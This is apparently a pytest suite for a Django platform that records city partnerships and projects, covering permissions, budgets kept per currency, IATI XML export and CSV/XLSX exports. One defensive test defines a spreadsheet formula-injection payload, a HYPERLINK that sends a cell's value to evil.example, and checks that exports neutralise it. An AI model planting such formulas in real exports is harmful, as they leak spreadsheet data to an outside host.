"""Partnerships and projects: permissions, transitions, money, results, IATI and exports."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth.models import AnonymousUser
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import Client
from lxml import etree

from ponte.accounts.models import Role
from ponte.accounts.permissions import SYSTEM
from ponte.cooperation import services
from ponte.cooperation.iati import export_iati, exportable_projects
from ponte.cooperation.models import (
    Budget,
    Partnership,
    Project,
    ProjectOrganisation,
    ProjectResult,
)
from ponte.cooperation.selectors import budget_totals, network_figures, project_timeline
from ponte.core.exceptions import ApplicationError, ConflictError, PermissionDeniedError
from tests.factories import LocalGovernmentFactory, MembershipFactory, NetworkFactory, UserFactory

pytestmark = pytest.mark.django_db

SCHEMA_DIR = Path(__file__).resolve().parents[1] / "data" / "iati"


@pytest.fixture
def world() -> dict:
    aspac, merco = NetworkFactory(slug="uclg-aspac"), NetworkFactory(slug="mercociudades")
    surabaya = LocalGovernmentFactory(city_name="Surabaya", slug="surabaya")
    recife = LocalGovernmentFactory(city_name="Recife", slug="recife")
    lima = LocalGovernmentFactory(city_name="Lima", slug="lima")
    MembershipFactory(local_government=surabaya, network=aspac)
    MembershipFactory(local_government=recife, network=merco)
    MembershipFactory(local_government=lima, network=merco)
    project = Project.objects.create(
        identifier="XM-PONTE-TEST-1", title="Waste banks", planned_start=date(2022, 1, 1)
    )
    project.locations.set([surabaya])
    ProjectOrganisation.objects.create(project=project, role=1, name="European Union", type="40")
    ProjectOrganisation.objects.create(
        project=project, role=4, name="Surabaya", local_government=surabaya
    )
    return {
        "aspac": aspac,
        "merco": merco,
        "surabaya": surabaya,
        "recife": recife,
        "lima": lima,
        "project": project,
        "surabaya_member": UserFactory(role=Role.MEMBER, local_government=surabaya),
        "lima_member": UserFactory(role=Role.MEMBER, local_government=lima),
        "merco_staff": UserFactory(role=Role.NETWORK_STAFF, network=merco),
        "admin": UserFactory(role=Role.PLATFORM_ADMIN),
    }


def _budget(project: Project, value: str, currency: str) -> None:
    """A 2022 budget line, recorded by the system (no actor)."""
    services.budget_add(
        actor=SYSTEM,
        project=project,
        period_start=date(2022, 1, 1),
        period_end=date(2022, 12, 31),
        value=value,
        currency=currency,
    )


def _banks_result(project: Project) -> ProjectResult:
    """A result with a baseline (15 in 2021), and target 100 and actual 120 for 2022."""
    return services.result_add(
        actor=SYSTEM,
        project=project,
        title="Banks",
        indicator="Active banks",
        unit="banks",
        baseline_value=15,
        baseline_year=2021,
        periods=[
            {
                "period_start": date(2022, 1, 1),
                "period_end": date(2022, 12, 31),
                "target": 100,
                "actual": 120,
            }
        ],
    )


def test_parties_record_partnerships_and_others_may_not(world: dict) -> None:
    p = services.partnership_create(
        actor=world["surabaya_member"],
        title="Surabaya – Recife",
        kind="technical-exchange",
        local_governments=[world["surabaya"], world["recife"]],
        themes=["waste"],
        sdg_targets=["12.5"],
    )
    assert {str(x) for x in p.participants.all()} == {"Surabaya", "Recife"}
    with pytest.raises(PermissionDeniedError):
        services.partnership_create(
            actor=world["lima_member"],
            title="x",
            kind="mou",
            local_governments=[world["surabaya"], world["recife"]],
        )
    with pytest.raises(ApplicationError, match="at least two"):
        services.partnership_create(
            actor=world["admin"], title="x", kind="mou", local_governments=[world["recife"]]
        )


def test_end_before_start_and_unknown_tags_write_nothing(world: dict) -> None:
    with pytest.raises(ApplicationError) as caught:
        services.partnership_create(
            actor=world["admin"],
            title="x",
            kind="mou",
            local_governments=[world["surabaya"], world["recife"]],
            start_date=date(2024, 1, 1),
            end_date=date(2023, 1, 1),
        )
    assert "end_date" in caught.value.errors
    with pytest.raises(ApplicationError):
        services.partnership_create(
            actor=world["admin"],
            title="x",
            kind="mou",
            local_governments=[world["surabaya"], world["recife"]],
            sdg_targets=["18.1"],
        )
    assert not Partnership.objects.exists()


def test_partnership_status_transitions_and_conflicts(world: dict) -> None:
    p = services.partnership_create(
        actor=world["admin"],
        title="x",
        kind="mou",
        local_governments=[world["surabaya"], world["recife"]],
    )
    with pytest.raises(PermissionDeniedError):
        services.partnership_transition(
            actor=world["lima_member"], partnership=p, status="active", version=1
        )
    p = services.partnership_transition(
        actor=world["merco_staff"], partnership=p, status="active", version=1
    )
    with pytest.raises(ConflictError):
        services.partnership_transition(
            actor=world["surabaya_member"], partnership=p, status="completed", version=1
        )
    p = services.partnership_transition(
        actor=world["surabaya_member"], partnership=p, status="completed", version=2
    )
    with pytest.raises(ApplicationError, match="cannot become"):
        services.partnership_transition(
            actor=world["admin"], partnership=p, status="active", version=3
        )


def test_project_transitions_follow_iati_status(world: dict) -> None:
    project = world["project"]
    with pytest.raises(ApplicationError):
        services.project_transition(
            actor=world["admin"], project=project, status=Project.Status.CLOSED, version=1
        )
    with pytest.raises(PermissionDeniedError):
        services.project_transition(
            actor=world["lima_member"], project=project, status=2, version=1
        )
    project = services.project_transition(
        actor=world["surabaya_member"], project=project, status=2, version=1
    )
    assert project.status == Project.Status.IMPLEMENTATION


def test_money_keeps_its_currency_and_is_never_summed_across(world: dict, settings: object) -> None:
    project = world["project"]
    services.budget_add(
        actor=world["surabaya_member"],
        project=project,
        period_start=date(2022, 1, 1),
        period_end=date(2022, 12, 31),
        value="1000.10",
        currency="eur",
    )
    services.budget_add(
        actor=world["surabaya_member"],
        project=project,
        period_start=date(2023, 1, 1),
        period_end=date(2023, 12, 31),
        value="500",
        currency="EUR",
    )
    services.budget_add(
        actor=world["admin"],
        project=project,
        period_start=date(2022, 1, 1),
        period_end=date(2022, 12, 31),
        value="15000000",
        currency="IDR",
    )
    assert Budget.objects.get(value=Decimal("1000.10")).currency_id == "EUR"
    totals = services.totals_by_currency([(b.value, b.currency_id) for b in project.budgets.all()])
    assert totals == {"EUR": Decimal("1500.10"), "IDR": Decimal("15000000")}
    assert services.converted_total(totals, {"EUR": "1.10"}) is None  # no IDR rate: no total at all
    assert services.converted_total(totals, {"EUR": "1.10", "IDR": "0.000064"}) == Decimal(
        "2610.11"
    )
    for bad in (
        {"value": "-5", "currency": "EUR"},
        {"value": "10", "currency": "XYZ"},
        {"value": "ten", "currency": "EUR"},
    ):
        with pytest.raises(ApplicationError):
            services.budget_add(
                actor=world["admin"],
                project=project,
                period_start=date(2022, 1, 1),
                period_end=date(2022, 12, 31),
                **bad,
            )
    with pytest.raises(ApplicationError):
        services.budget_add(
            actor=world["admin"],
            project=project,
            period_start=date(2022, 1, 1),
            period_end=date(2021, 1, 1),
            value="1",
            currency="EUR",
        )
    with pytest.raises(PermissionDeniedError):
        services.budget_add(
            actor=world["lima_member"],
            project=project,
            period_start=date(2022, 1, 1),
            period_end=date(2022, 12, 31),
            value="1",
            currency="EUR",
        )
    assert project.budgets.count() == 3


def test_a_revised_budget_replaces_the_original_in_totals(world: dict, client: Client) -> None:
    project = world["project"]
    year = {"period_start": date(2022, 1, 1), "period_end": date(2022, 12, 31)}
    services.budget_add(actor=SYSTEM, project=project, value="1000", currency="EUR", **year)
    services.budget_add(actor=SYSTEM, project=project, value="500", currency="USD", **year)
    services.budget_add(
        actor=SYSTEM,
        project=project,
        value="1200",
        currency="EUR",
        type=Budget.Type.REVISED,
        **year,
    )
    assert budget_totals(project) == {"EUR": Decimal("1200"), "USD": Decimal("500")}
    services.budget_add(
        actor=SYSTEM,
        project=project,
        value="1100",
        currency="EUR",
        type=Budget.Type.REVISED,
        **year,
    )
    assert budget_totals(project)["EUR"] == Decimal("1100")  # the latest revision counts
    body = client.get(f"/api/v1/projects/{project.pk}").json()
    assert Decimal(str(body["budget_by_currency"]["EUR"])) == Decimal("1100")


def test_results_need_a_unit_and_keep_baseline_target_actual(world: dict) -> None:
    with pytest.raises(ApplicationError, match="unit"):
        services.result_add(
            actor=world["admin"],
            project=world["project"],
            title="Banks",
            indicator="Banks",
            unit=" ",
        )
    result = services.result_add(
        actor=world["surabaya_member"],
        project=world["project"],
        title="Waste banks",
        indicator="Active banks",
        unit="banks",
        baseline_value=15,
        baseline_year=2021,
        periods=[
            {
                "period_start": date(2022, 1, 1),
                "period_end": date(2022, 12, 31),
                "target": 100,
                "actual": 120,
            }
        ],
    )
    period = result.periods.get()
    assert (result.baseline_value, period.target, period.actual) == (15, 100, 120)
    assert ProjectResult.objects.count() == 1


def test_iati_export_validates_against_the_official_schema(world: dict) -> None:
    project = world["project"]
    project.sdg_targets.set(["12.5", "11.6"])
    _budget(project, "1000", "EUR")
    services.transaction_add(
        actor=SYSTEM,
        project=project,
        type=3,
        date=date(2022, 3, 1),
        value="400",
        currency="EUR",
        provider="European Union",
        receiver="Surabaya",
    )
    _banks_result(project)
    services.document_add(
        actor=SYSTEM,
        project=project,
        upload=SimpleUploadedFile("mou.pdf", b"%PDF-1.4 signed", content_type="application/pdf"),
        title="Signed memorandum",
        category="A09",
    )
    xml = export_iati(exportable_projects(Project.objects.all()))
    schema = etree.XMLSchema(etree.parse(str(SCHEMA_DIR / "iati-activities-schema.xsd")))
    document = etree.fromstring(xml)
    schema.assertValid(document)
    activity = document.find("iati-activity")
    assert activity.findtext("iati-identifier") == "XM-PONTE-TEST-1"
    assert {(s.get("vocabulary"), s.get("code")) for s in activity.findall("sector")} == {
        ("7", "12"),
        ("7", "11"),
        ("8", "12.5"),
        ("8", "11.6"),
    }
    assert (
        activity.find("budget/value").text == "1000.00"
        and activity.find("budget/value").get("currency") == "EUR"
    )
    assert activity.find("transaction/transaction-type").get("code") == "3"
    assert activity.find("result/indicator/period/actual").get("value") == "120"
    assert {o.get("role") for o in activity.findall("participating-org")} == {"1", "4"}
    link = activity.find("document-link")
    assert link.find("category").get("code") == "A09" and link.get("format") == "application/pdf"


def test_iati_export_command_and_api(world: dict, tmp_path: Path, client: Client) -> None:
    out = tmp_path / "iati.xml"
    call_command("export", "iati", "--output", str(out))
    assert etree.parse(str(out)).getroot().get("version") == "2.03"
    response = client.get("/api/v1/projects.iati.xml")
    assert response["Content-Type"].startswith("application/xml")
    assert b"XM-PONTE-TEST-1" in response.content


def _download(client: Client, path: str) -> bytes:
    response = client.get(path)
    assert response.status_code == 200 and response.streaming
    return b"".join(response.streaming_content)


def test_csv_and_xlsx_exports(world: dict, client: Client) -> None:
    from openpyxl import load_workbook

    _budget(world["project"], "1000", "EUR")
    _budget(world["project"], "5000", "IDR")
    rows = list(csv.reader(io.StringIO(_download(client, "/api/v1/projects.csv").decode())))
    assert rows[0][0] == "identifier" and rows[1][0] == "XM-PONTE-TEST-1"
    assert rows[1][7] == "1000.00 EUR; 5000.00 IDR"
    sheet = load_workbook(io.BytesIO(_download(client, "/api/v1/partnerships.xlsx"))).active
    assert next(sheet.iter_rows(values_only=True))[1] == "title"
    assert client.get("/api/v1/projects/999").status_code == 404


EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("kind", ["partnerships", "projects"])
def test_partnership_and_project_exports_make_formulas_inert(
    world: dict, client: Client, kind: str
) -> None:
    from openpyxl import load_workbook

    if kind == "partnerships":
        services.partnership_create(
            actor=SYSTEM, title=EVIL, kind="mou", local_governments=[world["recife"], world["lima"]]
        )
    else:
        Project.objects.filter(pk=world["project"].pk).update(title=EVIL)
    rows = list(csv.reader(io.StringIO(_download(client, f"/api/v1/{kind}.csv").decode())))
    assert rows[1][1] == "'" + EVIL
    sheet = load_workbook(io.BytesIO(_download(client, f"/api/v1/{kind}.xlsx"))).active
    title = list(sheet.iter_rows(min_row=2))[0][1]
    assert title.data_type != "f" and title.value == "'" + EVIL


def test_xlsx_exports_are_refused_past_their_row_limit(
    world: dict, client: Client, settings: Any
) -> None:
    settings.PONTE_EXPORT_XLSX_MAX_ROWS = 0
    response = client.get("/api/v1/projects.xlsx")
    assert response.status_code == 400
    assert "at most 0 rows and this one would have 1" in response.json()["detail"]
    assert client.get("/api/v1/projects.csv").status_code == 200  # CSV has no limit


def test_network_figures_count_south_south_partnerships(world: dict) -> None:
    for parties, status in (
        ([world["recife"], world["surabaya"]], "active"),
        ([world["recife"], world["lima"]], "active"),
    ):
        p = services.partnership_create(
            actor=SYSTEM, title=str(parties), kind="mou", local_governments=parties
        )
        Partnership.objects.filter(pk=p.pk).update(status=status)
    figures = network_figures(world["merco"])
    assert figures["active_partnerships"] == 2
    assert figures["south_south_share"] == 0.5


def test_anonymous_users_cannot_change_projects(world: dict) -> None:
    with pytest.raises(PermissionDeniedError):
        services.project_transition(
            actor=AnonymousUser(), project=world["project"], status=2, version=1
        )


def test_pages_show_records_money_per_currency_and_figures(world: dict, client: Client) -> None:
    project = world["project"]
    _budget(project, "1000", "EUR")
    _budget(project, "5000", "IDR")
    _banks_result(project)
    page = client.get(f"/cooperation/projects/{project.pk}/").content.decode()
    assert "1,000.00 EUR; 5,000.00 IDR" in page and "Active banks" in page and "120" in page
    assert 'media="print"' in page
    p = services.partnership_create(
        actor=SYSTEM,
        title="Recife – Surabaya",
        kind="mou",
        local_governments=[world["recife"], world["surabaya"]],
    )
    Partnership.objects.filter(pk=p.pk).update(status="active")
    assert "Recife – Surabaya" in client.get("/cooperation/partnerships/").content.decode()
    profile = client.get("/directory/surabaya/").content.decode()
    assert "Recife – Surabaya" in profile and "Waste banks" in profile
    network = client.get("/directory/networks/mercociudades/").content.decode()
    assert "100% link Asia-Pacific with Latin America" in network
    assert client.get("/cooperation/projects/99999/").status_code == 404


def test_activities_and_documents_by_participants_only(
    world: dict, client: Client, django_capture_on_commit_callbacks: Any
) -> None:
    project = world["project"]
    with pytest.raises(PermissionDeniedError):
        services.activity_add(
            actor=world["lima_member"], project=project, title="Visit", start_date=date(2023, 1, 1)
        )
    with pytest.raises(ApplicationError) as caught:
        services.activity_add(
            actor=world["surabaya_member"],
            project=project,
            title="Study visit to Recife",
            start_date=date(2023, 5, 1),
            end_date=date(2023, 4, 1),
        )
    assert "end_date" in caught.value.errors
    services.activity_add(
        actor=world["surabaya_member"],
        project=project,
        title="Study visit to Recife",
        start_date=date(2023, 5, 1),
        end_date=date(2023, 5, 5),
        status="done",
    )
    assert "Study visit to Recife" in [e.what.split(" (")[0] for e in project_timeline(project)]
    fake = SimpleUploadedFile("mou.pdf", b"MZ not a pdf", content_type="application/pdf")
    with pytest.raises(ApplicationError):
        services.document_add(
            actor=world["surabaya_member"], project=project, upload=fake, title="x", category="A09"
        )
    with pytest.raises(PermissionDeniedError):
        services.document_add(
            actor=world["lima_member"],
            project=project,
            upload=SimpleUploadedFile("a.pdf", b"%PDF-1.4", content_type="application/pdf"),
            title="x",
            category="A09",
        )
    with django_capture_on_commit_callbacks(execute=True):  # files are written on commit
        doc = services.document_add(
            actor=world["surabaya_member"],
            project=project,
            upload=SimpleUploadedFile("mou.pdf", b"%PDF-1.4 ok", content_type="application/pdf"),
            title="Signed MoU",
            category="A09",
        )
    response = client.get(f"/cooperation/documents/{doc.pk}/")
    assert response.status_code == 200 and "sandbox" in response["Content-Security-Policy"]
    page = client.get(f"/cooperation/projects/{project.pk}/").content.decode()
    assert "Study visit to Recife" in page and "Signed MoU" in page


def test_partnership_page_has_a_timeline_in_the_readers_language(
    world: dict, client: Client
) -> None:
    from tests.cooperation.factories import PartnershipFactory, ProjectFactory

    partnership = PartnershipFactory(
        title="Surabaya – Recife",
        parties=[world["surabaya"], world["recife"]],
        start_date=date(2023, 3, 1),
        end_date=date(2026, 2, 28),
    )
    ProjectFactory(
        title="Waste banks in Recife", partnership=partnership, planned_start=date(2024, 1, 15)
    )
    page = client.get(f"/cooperation/partnerships/{partnership.pk}/").content.decode()
    timeline = page[page.index("Timeline") :]
    order = ["Partnership starts", "Project starts: Waste banks in Recife", "Partnership ends"]
    assert [timeline.index(label) for label in order] == sorted(
        timeline.index(label) for label in order
    )
    assert "Recorded on Ponte" in timeline
    spanish = client.get(
        f"/cooperation/partnerships/{partnership.pk}/", HTTP_ACCEPT_LANGUAGE="es"
    ).content.decode()
    assert "Comienza la asociación" in spanish and "Partnership starts" not in spanish


def test_amounts_are_grouped_the_way_the_reader_writes_them(world: dict, client: Client) -> None:
    _budget(world["project"], "250000000", "IDR")
    url = f"/cooperation/projects/{world['project'].pk}/"
    assert "250,000,000.00 IDR" in client.get(url).content.decode()
    indonesian = client.get(url, HTTP_ACCEPT_LANGUAGE="id").content.decode()
    assert "250.000.000,00 IDR" in indonesian
    # Exports stay machine-readable.
    rows = list(csv.reader(io.StringIO(_download(client, "/api/v1/projects.csv").decode())))
    assert "250000000.00 IDR" in rows[1][7]
